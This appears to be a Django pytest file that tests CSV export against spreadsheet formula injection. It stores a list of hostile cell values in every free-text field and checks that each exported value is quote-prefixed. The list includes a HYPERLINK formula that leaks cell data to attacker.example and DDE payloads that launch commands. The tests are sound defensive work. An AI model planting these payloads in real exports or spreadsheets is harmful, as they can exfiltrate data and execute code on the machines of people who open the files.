"""Spreadsheet formula injection (OWASP): hostile text is neutralised, numbers and dates are not."""

import datetime
import json

import pytest
from django.db import connection, models

from negotiations.export import DATASETS, PLAIN_TYPES
from negotiations.models import Actor, Event, Negotiation, Person

from .builders import values_an_editor_could_save
from .export_helpers import csv_rows, resolve

# Every test reads the one Doha copy loaded for the module and rolls back its own changes.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("doha_for_the_module")]

CORPUS = [
    "=1+2",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2,\n"quoted"',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")


def corpus():
    # PostgreSQL text cannot hold NUL at all; SQLite can, so test it there.
    return [*CORPUS, "\0=1+2"] if connection.vendor == "sqlite" else CORPUS


def free_text_fields(model):
    """Every free-text column of a model (not choices, not URLs the database checks)."""
    return [
        field.name
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name != "url"
    ]


def store_the_corpus_everywhere():
    """Each record's every free-text field gets a hostile value (unique where it must be)."""
    hostile = corpus()
    touched = {dataset.model for dataset in DATASETS.values()} | {Actor, Negotiation, Person}
    position = 0
    for model in touched:
        fields = free_text_fields(model)
        for record in model.objects.all():
            values = {}
            for name in fields:
                values[name] = f"{hostile[position % len(hostile)]}{record.pk}"
                position += 1
            model.objects.filter(pk=record.pk).update(**values_an_editor_could_save(record, values))


@pytest.mark.parametrize("dataset", sorted(DATASETS))
def test_no_text_cell_can_start_a_formula(client, doha, dataset, with_lifecycle_records):
    store_the_corpus_everywhere()
    definition = DATASETS[dataset]
    _, rows = csv_rows(client.get(f"/export/{dataset}.csv"))
    assert rows
    protected = [c.name for c in definition.all_columns if c.type not in PLAIN_TYPES]
    for row in rows:
        for name in protected:
            assert not row[name].startswith(TRIGGERS), (dataset, name, row[name])


@pytest.mark.parametrize("dataset", sorted(DATASETS))
def test_protected_text_reads_back_exactly_after_the_quote(
    client, doha, dataset, with_lifecycle_records
):
    store_the_corpus_everywhere()
    definition = DATASETS[dataset]
    _, rows = csv_rows(client.get(f"/export/{dataset}.csv"))
    records = {record.pk: record for record in definition.model.objects.all()}
    checked = 0
    for row in rows:
        record = records[int(row["id"])]
        for column in definition.columns:
            if column.type in PLAIN_TYPES:
                continue
            stored = resolve(record, column.source_path)
            if stored and stored.startswith(TRIGGERS):
                assert row[column.name] == "'" + stored
                checked += 1
    assert checked >= len(rows)


def test_numbers_and_dates_are_written_plainly(client, doha):
    store_the_corpus_everywhere()
    _, rows = csv_rows(client.get("/export/exchange-terms.csv"))
    hostages = next(row for row in rows if row["group"] == "hostages")
    assert hostages["count_min"] == "42"
    assert datetime.date.fromisoformat(hostages["proposal_date"]) == datetime.date(2024, 3, 11)
    datetime.datetime.fromisoformat(hostages["updated_at"])
    assert hostages["description"].startswith("'")


def test_lists_of_hostile_slugs_are_protected(client, doha):
    store_the_corpus_everywhere()
    _, rows = csv_rows(client.get("/export/events.csv"))
    lists = [row["participants"] for row in rows if row["participants"]]
    assert lists
    assert all(value.startswith("'") for value in lists)


def test_json_carries_the_stored_text_unaltered(client, doha):
    store_the_corpus_everywhere()
    response = client.get("/export/events.json")
    rows = json.loads(b"".join(response.streaming_content))["rows"]
    titles = {row["id"]: row["title"] for row in rows}
    assert titles == dict(Event.objects.values_list("pk", "title"))
